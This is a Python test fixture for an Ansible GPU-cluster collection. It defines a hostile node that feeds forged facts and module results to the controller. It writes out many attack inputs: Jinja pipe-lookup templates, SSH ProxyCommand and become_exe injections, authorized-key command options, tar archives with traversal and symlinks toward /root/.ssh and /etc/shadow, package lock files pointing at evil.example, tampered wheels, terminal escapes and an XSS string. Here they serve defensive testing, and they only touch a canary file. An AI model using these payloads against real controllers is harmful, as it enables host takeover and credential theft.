# Copyright: The allreduce.gpu authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a hostile host says: each round is one run of a playbook, in which it tells every lie of the round.

The table also runs on the host, next to liar.py, and needs nothing but Python's library. A lie gets a function that asks the real module,
and returns an answer: a dictionary, or text as it is. Templates, paths and commands lead to files named CANARY, which must not be created.
"""

import base64
import copy
import glob
import io
import json
import os
import shutil
import tarfile
from collections import namedtuple

CANARY = "/tmp/hostile-canary"  # noqa: S108 (looked for on all hosts and on the controller)
ESCAPE = "\x1b[2J\x1b]0;owned\x07\x9b31m"
TEMPLATE = "{{ lookup('pipe', 'touch " + CANARY + "') }}"
LONG = "x" * 5_000_000
DEEP, BYTES = "@deep@", "@bytes@"  # in their place: 100,000 lists in lists, and bytes that are no UTF-8
NAN, HUGE = float("nan"), 1e308
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwnedOwnedOwnedOwnedOwnedOwnedOwnedOwnedOwne"
SETUP, STATE, UNIT = "setup", "allreduce.gpu.node_state", "allreduce.gpu.training_unit"
KEYS, ARCHIVE, READ = "allreduce.gpu.ssh_keys", "allreduce.gpu.environment_archive", "allreduce.gpu.read_file"
PROBE = "allreduce.gpu.node_probe"
POLLED, STOPPED, STARTED = (f'"state": ?"{state}"' for state in ("polled", "stopped", "started"))

Lie = namedtuple("Lie", "name module change matching", defaults=("",))
# lies: all of them are told. outcome: what becomes of the host: failed, left_out, or believed, where what it says is about itself only.
# before: shell commands {"hostile" or "others": command} before the run.
Round = namedtuple("Round", "playbook outcome lies options before", defaults=((), {}))


def encode(answer):
    """Return the bytes of an answer."""
    text = answer if isinstance(answer, str) else json.dumps(answer)
    text = text.replace(f'"{DEEP}"', "[" * 100_000 + "]" * 100_000)
    return text.encode("utf-8", "surrogatepass").replace(BYTES.encode(), b"\xff\xfe\xc3(") + b"\n"


def says(answer):
    """Return a change to an answer that has nothing to do with the real one."""
    return lambda honest: answer


def puts(values):
    """Return a change of an answer at paths such as ansible_facts.gpu_node.gpus."""

    def change(honest):
        answer = copy.deepcopy(honest())
        for path, value in values.items():
            inner, names = answer, path.split(".")
            for name in names[:-1]:
                inner[name] = inner.get(name) if isinstance(inner.get(name), dict) else {}
                inner = inner[name]
            inner[names[-1]] = value
        return answer

    return change


def appends(texts):
    """Return a change of texts of an answer: they get more at their end."""
    return lambda honest: {**honest(), **{name: honest().get(name, "") + text for name, text in texts.items()}}


def fact(name, value):
    """Return a change to one fact of setup."""
    return puts({"ansible_facts.ansible_" + name: value})


def state(name, value):
    """Return a change to a part of fact gpu_node_state."""
    return puts({"ansible_facts.gpu_node_state." + name: value})


def cut(honest):
    """Return the first half of the real answer."""
    text = json.dumps(honest())
    return text[: len(text) // 2]


def packed(*members):
    """Return a tar.gz in base64: (name, type, what it links to, mode, size) of each member."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, kind, target, mode, size in members:
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.mode, member.size = kind, target, mode, size
            tar.addfile(member, io.BytesIO(b"\0" * size) if kind == tarfile.REGTYPE else None)
    return base64.b64encode(out.getvalue()).decode("ascii")


EVIL_LOGS = packed(
    ("../../../../escaped.out", tarfile.REGTYPE, "", 0o644, 9),
    (CANARY, tarfile.REGTYPE, "", 0o644, 9),
    ("link", tarfile.SYMTYPE, "/root/.ssh", 0o777, 0),
    ("link/authorized_keys", tarfile.REGTYPE, "", 0o600, 9),
    ("rank7.out", tarfile.SYMTYPE, CANARY, 0o777, 0),
    ("hard", tarfile.LNKTYPE, "/etc/shadow", 0o666, 0),
    ("disk", tarfile.BLKTYPE, "", 0o666, 0),
    ("pipe", tarfile.FIFOTYPE, "", 0o666, 0),
    ("setuid", tarfile.REGTYPE, "", 0o6755, 9),
    ("zeros.out", tarfile.REGTYPE, "", 0o644, 50_000_000),
)


def plants(honest):
    """Put pipes, directories, devices, endless files and deep JSON where the run's own files are; then ask the real module."""
    for run in glob.glob("/var/lib/allreduce/runs/*"):
        logs = os.path.join(run, "logs")
        owner = os.stat(logs)

        def put(name, make, logs=logs, owner=owner):
            path = os.path.join(logs, name)
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            elif os.path.lexists(path):
                os.unlink(path)
            make(path)
            os.chown(path, owner.st_uid, owner.st_gid, follow_symlinks=False)

        put("flight-rank0", os.mkfifo)
        put("flight-rank1", lambda path: os.truncate(os.open(path, os.O_CREAT | os.O_RDWR), 2**30))
        put("rank0.err", os.mkdir)
        put("rank0.out", lambda path: _write(path, (ESCAPE + "loss 1\n").encode() * 10_000_000))
        put("rank1.out", lambda path: os.symlink("/etc/shadow", path))
        put("rank2.out", lambda path: os.symlink("/dev/zero", path))
        put("agent.json", lambda path: _write(path, b"[" * 100_000))
        put("metrics.json", lambda path: _write(path, b'{"loss": NaN, "a": ' + b"1" * 10_000 + b"}"))
        put("rank3.json", os.mkfifo)
    return honest()


def tampers(honest):
    """Change a byte of each wheel that the real module has downloaded, and tell other names."""
    answer = honest()
    for path in glob.glob("/opt/allreduce/cache/environments/*/*.whl"):
        with open(path, "r+b") as wheel:
            wheel.seek(os.path.getsize(path) // 2)
            wheel.write(b"evil")
    return {**answer, "wheels": [{**one, "file": EVIL_WHEEL} for one in answer.get("wheels", [])]}


def _write(path, content):
    with open(path, "wb") as out:
        out.write(content)


def rank(**values):
    """Return a rank as module training_unit tells of it."""
    known = {
        "rank": 0,
        "local_rank": 0,
        "world_size": 2,
        "attempt": 0,
        "started": 1.7e9,
        "last_output": None,
        "last_line": "",
    }
    return {**known, **values}


# Facts that Ansible would take for variables of the inventory or of our roles.
VARIABLES = {
    "stack_lock": CANARY,
    "cluster_ssh_authorized_keys": [KEY],
    "cluster_ssh_extra_addresses": ["0.0.0.0/0"],
    "firewall_state": "disabled",
    "gpu_stack_request": {"pytorch": TEMPLATE},
    "python_env_find_links": ["http://evil.example/"],
    "base_packages": ["nmap"],
    "__frameworks_lock": "evil==1.0",
}
CONNECTION = {
    "ansible_python_interpreter": "/bin/touch " + CANARY,
    "ansible_connection": "local",
    "ansible_host": "127.0.0.1",
    "ansible_ssh_common_args": f"-o ProxyCommand='touch {CANARY}'",
    "ansible_become_exe": "touch " + CANARY,
    "ansible_delegated_vars": {"localhost": {"ansible_connection": "local"}},
    "groups": {"gpu_nodes": []},
    "hostvars": {},
    "inventory_dir": "/tmp",  # noqa: S108
    "omit": "x",
}
INTERNAL = {
    "_ansible_no_log": True,
    "_ansible_delegated_vars": {"ansible_host": "hostile-2", "ansible_delegated_host": "hostile-2"},
    "_ansible_parsed": False,
    "_ansible_item_result": True,
    "_ansible_tmpdir": "/etc",
    "add_host": {"host_name": "evil", "groups": ["gpu_nodes"], "host_vars": {"ansible_connection": "local"}},
    "add_group": "gpu_nodes",
    "ansible_facts_cacheable": True,
    "_ansible_facts_cacheable": True,
    "_ansible_notify": ["Measure the node"],
    "ansible_included_var_files": [CANARY],
    "results": [{"ansible_facts": {"a": 1}}],
    "diff": [{"before": ESCAPE, "after": HUGE, "prepared": 7}],
    "changed": "perhaps",
    "skip_reason": 7,
    "start": {},
}
ONE_ADDRESS = {"address": "0.0.0.0/0", "interface": "eth0"}
LOCK = "--index-url http://evil.example/\n--find-links http://evil.example/x\nevil @ http://evil.example/evil-1-py3-none-any.whl\n"
EVIL_WHEEL = f"../../../../{CANARY}-1-py3-none-any.whl"
PYLOCK = f"""
[[packages]]
name = "evil"
version = "1"
wheels = [{{name = "{EVIL_WHEEL}", url = "file:///etc/shadow", hashes = {{sha256 = "{"0" * 64}"}}}}]
"""

REACH = ("--tags", "cluster_ssh,firewall")
# Environments and what belongs to them, as before the first run.
NO_ENVIRONMENT = "rm -rf /opt/allreduce/envs/main /opt/allreduce/envs/.main-*"


ROUNDS = {
    # What a plan is made of.
    "plan_names": Round(
        "plan",
        "left_out",
        [
            Lie("name_with_a_line", SETUP, fact("nodename", "hostile-1\n192.0.2.66 pypi.org")),
            Lie("host_name_of_megabytes", SETUP, fact("hostname", LONG)),
            Lie("packages_100000", STATE, state("packages", {f"p{i}": "1" for i in range(250_000)})),
            Lie("package_option", STATE, state("leftover_packages", {"--force-yes": "-o"})),
            Lie("kernel_escape", STATE, state("kernel.running", ESCAPE)),
        ],
    ),
    "plan_addresses": Round(
        "plan",
        "left_out",
        [
            Lie("everybody", SETUP, fact("default_ipv4", ONE_ADDRESS)),
            Lie("wildcard_name", SETUP, fact("nodename", "x,*")),
            Lie("list_100000", STATE, state("records", ["x"] * 250_000)),
            Lie("disk_negative", STATE, state("disk_free_mib", {"/": -1})),
        ],
    ),
    "plan_texts": Round(
        "plan",
        "left_out",
        [
            Lie("distribution_escape", SETUP, fact("distribution", "Debian" + ESCAPE)),
            Lie("architecture_template", SETUP, fact("architecture", TEMPLATE)),
            Lie(
                "gpu_escape",
                STATE,
                puts({"ansible_facts.gpu_node.gpus": [{"index": 0, "name": ESCAPE, "pci_bus_id": "0"}]}),
            ),
        ],
    ),
    "plan_templates": Round(
        "plan",
        "left_out",
        [
            Lie("version_template", SETUP, fact("distribution_version", TEMPLATE)),
            Lie("driver_template", STATE, state("driver", {"loaded": TEMPLATE, "installed": TEMPLATE})),
            Lie(
                "mirror_template",
                STATE,
                state("apt_mirrors", [{"uri": TEMPLATE, "suite": TEMPLATE, "components": [], "signed_by": None}]),
            ),
        ],
    ),
    "plan_numbers": Round(
        "plan",
        "left_out",
        [
            Lie("memory_1e308", SETUP, fact("memtotal_mb", HUGE)),
            Lie("processors_nan", SETUP, fact("processor_vcpus", NAN)),
            Lie(
                "health_of_other_types",
                STATE,
                state("health", {"verdict": ESCAPE, "findings": [7], "judged": {"a": TEMPLATE}, "counters": [LONG]}),
            ),
            Lie("disk_nan", STATE, state("disk_free_mib", {"/": NAN, "/opt": HUGE})),
            Lie(
                "gpus_nan", STATE, puts({"ansible_facts.gpu_node.gpus": [{"index": NAN, "memory_mib": -5, "name": 7}]})
            ),
        ],
    ),
    "plan_variables": Round(
        "plan",
        "believed",
        [
            Lie(
                "facts_with_names_of_variables",
                SETUP,
                puts({f"ansible_facts.{name}": value for name, value in VARIABLES.items()}),
            ),
            Lie(
                "facts_of_the_connection",
                SETUP,
                puts({f"ansible_facts.{name}": value for name, value in CONNECTION.items()}),
            ),
            Lie(
                "stack_of_its_own",
                STATE,
                puts({"ansible_facts.gpu_stack": {"environments": {"main": {"lock": LOCK}}, "os": TEMPLATE}}),
            ),
        ],
    ),
    "plan_internal": Round(
        "plan",
        "believed",
        [Lie("internal_keys", SETUP, puts(INTERNAL)), Lie("internal_keys_of_ours", STATE, puts(INTERNAL))],
    ),
    "plan_no_json": Round("plan", "failed", [Lie("no_json", SETUP, says(f"bash: {TEMPLATE} not found"))]),
    "plan_empty": Round("plan", "failed", [Lie("empty", SETUP, says(""))]),
    "plan_bytes": Round(
        "plan",
        "failed",
        [Lie("bytes_before_json", SETUP, says('{"ansible_facts": {"ansible_distribution": "' + BYTES + '"}'))],
    ),
    "plan_cut": Round("plan", "failed", [Lie("cut_in_two", STATE, cut)]),
    "plan_deep": Round("plan", "failed", [Lie("nested_100000", STATE, state("kernel", DEEP))]),
    "plan_digits": Round(
        "plan",
        "failed",
        [Lie("number_of_5000_digits", STATE, says('{"ansible_facts": {"gpu_node": ' + "1" * 5000 + "}}"))],
    ),
    "plan_list": Round("plan", "failed", [Lie("list_for_a_dictionary", STATE, says("[1, 2]"))]),
    "plan_facts_list": Round(
        "plan", "failed", [Lie("facts_are_a_list", STATE, says({"ansible_facts": ["gpu_node"], "changed": False}))]
    ),
    "plan_surrogate": Round("plan", "failed", [Lie("surrogate", STATE, state("kernel.newest", "\ud800\udc80\ud800"))]),
    "plan_skipped": Round("plan", "failed", [Lie("skipped", SETUP, says({"skipped": True, "failed": False}))]),
    "plan_unreachable": Round(
        "plan", "failed", [Lie("unreachable", STATE, says({"unreachable": True, "msg": TEMPLATE}))]
    ),
    "plan_failed": Round(
        "plan",
        "failed",
        [Lie("exception", STATE, says({"failed": "yes", "exception": "(no) " * 9, "msg": [TEMPLATE]}))],
    ),
    # What others take over.
    "site_names": Round(
        "site",
        "failed",
        [
            Lie("name_of_another", SETUP, fact("nodename", "hostile-2")),
            Lie(
                "host_key_with_a_line",
                SETUP,
                fact("ssh_host_key_ed25519_public", KEY.split()[1] + "\n@cert-authority * " + KEY),
            ),
        ],
        REACH,
    ),
    # What a host says of its address decides nothing where the inventory has gpu_cluster_address.
    "site_address": Round(
        "site", "believed", [Lie("address_of_another", SETUP, fact("default_ipv4", {"address": "@other@"}))], REACH
    ),
    "site_keys": Round(
        "site",
        "failed",
        [
            Lie(
                "key_with_options",
                KEYS,
                puts({"public_key": f'command="touch {CANARY}" {KEY}', "next_public_key": f"{KEY}\n{KEY}"}),
            )
        ],
        REACH,
    ),
    "site_key_list": Round(
        "site",
        "failed",
        [
            Lie(
                "key_is_a_list",
                KEYS,
                puts({"public_key": [KEY], "rotated": "no", "record": {"text": "[" * 100_000, "time": NAN}}),
            )
        ],
        REACH,
    ),
    "site_record": Round(
        "site",
        "believed",
        [
            Lie(
                "record_of_others",
                KEYS,
                puts(
                    {
                        "record": {
                            "time": 9e9,
                            "text": json.dumps(
                                [
                                    {
                                        "name": "hostile-2",
                                        "address": "192.0.2.66",
                                        "nodename": "pypi.org",
                                        "sources": ["0.0.0.0/0"],
                                        "host_key": KEY,
                                        "public_key": KEY,
                                    },
                                    {
                                        "name": "evil",
                                        "address": "192.0.2.67",
                                        "nodename": "*",
                                        "sources": ["*"],
                                        "host_key": KEY,
                                        "public_key": KEY,
                                    },
                                ]
                            ),
                        }
                    }
                ),
            ),
        ],
        REACH,
    ),
    "site_settings": Round(
        "site",
        "failed",
        [
            Lie(
                "firewall_facts_that_cannot_be",
                "allreduce.gpu.firewall_facts",
                says(
                    {
                        "ansible_facts": {
                            "gpu_firewall": {
                                "interfaces": {"x; drop": [TEMPLATE]},
                                "ssh_ports": [NAN, "0-65535"],
                                "nft": ESCAPE,
                            }
                        },
                        "applied": 7,
                    }
                ),
            ),
        ],
        REACH,
    ),
    "site_tuning": Round(
        "site",
        "failed",
        [
            Lie(
                "tuning_facts_that_cannot_be",
                "allreduce.gpu.tuning_facts",
                puts(
                    {
                        "ansible_facts.gpu_tuning.numa_nodes": HUGE,
                        "ansible_facts.gpu_tuning.sysctl": [ESCAPE],
                        "applied": None,
                    }
                ),
            ),
        ],
        ("--tags", "tuning"),
    ),
    "site_files": Round(
        "site",
        "failed",
        [
            Lie("files_were_deleted", STATE, state("files", {f"{CANARY}{i}": TEMPLATE for i in range(9)})),
            Lie(
                "files_cannot_be_written",
                "allreduce.gpu.config_files",
                says({"failed": True, "msg": TEMPLATE, "seen": [ESCAPE], "changed_paths": HUGE}),
            ),
        ],
        ("--tags", "health"),
    ),
    # A mark with another host's name does not count: the host shares its directory with no other.
    "site_marks": Round(
        "site",
        "believed",
        [
            Lie(
                "mark_of_another",
                "tempfile",
                says({"path": "/opt/allreduce/envs/../../../etc/.shared-aaaaaaaa.hostile-2", "changed": True}),
            )
        ],
        ("--tags", "frameworks"),
        {"hostile": NO_ENVIRONMENT},
    ),
    # It installs what it downloaded; the others refuse that by its digest, and take theirs from the index.
    "site_archive": Round(
        "site",
        "failed",
        [Lie("wheels_that_were_changed", ARCHIVE, tampers, '"state": ?"downloaded"')],
        ("--tags", "frameworks"),
        {"hostile": NO_ENVIRONMENT, "others": NO_ENVIRONMENT},
    ),
    "site_lock": Round(
        "site",
        "believed",
        [Lie("lock_with_options", READ, puts({"content": base64.b64encode(LOCK.encode()).decode("ascii")}), "locks")],
        ("--tags", "frameworks"),
        {"hostile": NO_ENVIRONMENT},
    ),
    "site_wheels": Round(
        "site",
        "believed",
        [
            Lie("wheel_names_with_paths", "command", appends({"stdout": PYLOCK}), "pylock"),
        ],
        ("--tags", "frameworks"),
        {"hostile": NO_ENVIRONMENT, "others": NO_ENVIRONMENT},
    ),
    # What is verified.
    "verify_types": Round(
        "verify",
        "failed",
        [
            Lie(
                "probe_of_other_types",
                PROBE,
                puts(
                    {
                        "node_probe.peers": {"hostile-2": {"address": ESCAPE, "clock": NAN}},
                        "node_probe.environments": TEMPLATE,
                    }
                ),
            ),
            Lie(
                "settings_of_other_types", "allreduce.gpu.tuning_facts", says({"ansible_facts": {"gpu_tuning": [HUGE]}})
            ),
        ],
    ),
    "verify_numbers": Round(
        "verify",
        "failed",
        [
            Lie(
                "clock_1e308",
                PROBE,
                puts(
                    {
                        "node_probe.peers.hostile-2.clock": {"least": -HUGE, "most": HUGE},
                        "node_probe.network": {"own_name": [ESCAPE], "link": {"mtu": -1}},
                    }
                ),
            ),
        ],
    ),
    "verify_state": Round(
        "verify",
        "failed",
        [
            Lie(
                "versions_1e308",
                STATE,
                state("environments", {"main": {"packages": {"torch": HUGE}, "lock": {"digest": ESCAPE}}}),
            ),
            Lie(
                "findings_with_escapes",
                STATE,
                state(
                    "health",
                    {
                        "verdict": "ok",
                        "findings": [
                            {
                                "check": ESCAPE,
                                "gpu": TEMPLATE,
                                "expected": NAN,
                                "measured": HUGE,
                                "severity": "failed",
                                "cause": ESCAPE,
                                "action": "</script><script>alert(1)</script>",
                                "action_class": ESCAPE,
                            }
                        ],
                    },
                ),
            ),
        ],
    ),
    # What is trained.
    "train_ranks": Round(
        "train",
        "failed",
        [
            Lie(
                "ranks_outside",
                UNIT,
                puts(
                    {
                        "ranks": [
                            rank(rank=-1),
                            rank(rank=10**9, started=1e300),
                            rank(rank="0", world_size=10**400, last_line=ESCAPE),
                        ]
                    }
                ),
                POLLED,
            ),
        ],
    ),
    "train_lines": Round(
        "train",
        "failed",
        [
            Lie(
                "lines_with_escapes",
                UNIT,
                puts(
                    {
                        "ranks": [rank(rank=0, last_line=ESCAPE + TEMPLATE + "epoch 10000000000/3", last_output=9e11)],
                        "service": {"state": "failed"},
                        "end": ESCAPE,
                    }
                ),
                POLLED,
            ),
            Lie(
                "logs_outside",
                UNIT,
                puts(
                    {
                        "logs": EVIL_LOGS,
                        "tails": {"0": [ESCAPE] * 100_000, "../x": [LONG]},
                        "flight_errors": {"9": ESCAPE},
                        "mount_faults": [ESCAPE],
                    }
                ),
                STOPPED,
            ),
        ],
    ),
    "train_files": Round("train", "failed", [Lie("pipes_and_endless_files", UNIT, plants, STOPPED)]),
    "train_started": Round(
        "train",
        "failed",
        [
            Lie(
                "started_without_an_interface",
                UNIT,
                says({"interface": ESCAPE, "changed": {}, "failed": True, "msg": TEMPLATE}),
                STARTED,
            )
        ],
    ),
    "train_silent_metrics": Round(
        "train",
        "failed",
        [Lie("deep_metrics", UNIT, puts({"metrics": {"a": DEEP}, "logs": 7, "versions": [ESCAPE]}), STOPPED)],
    ),
}
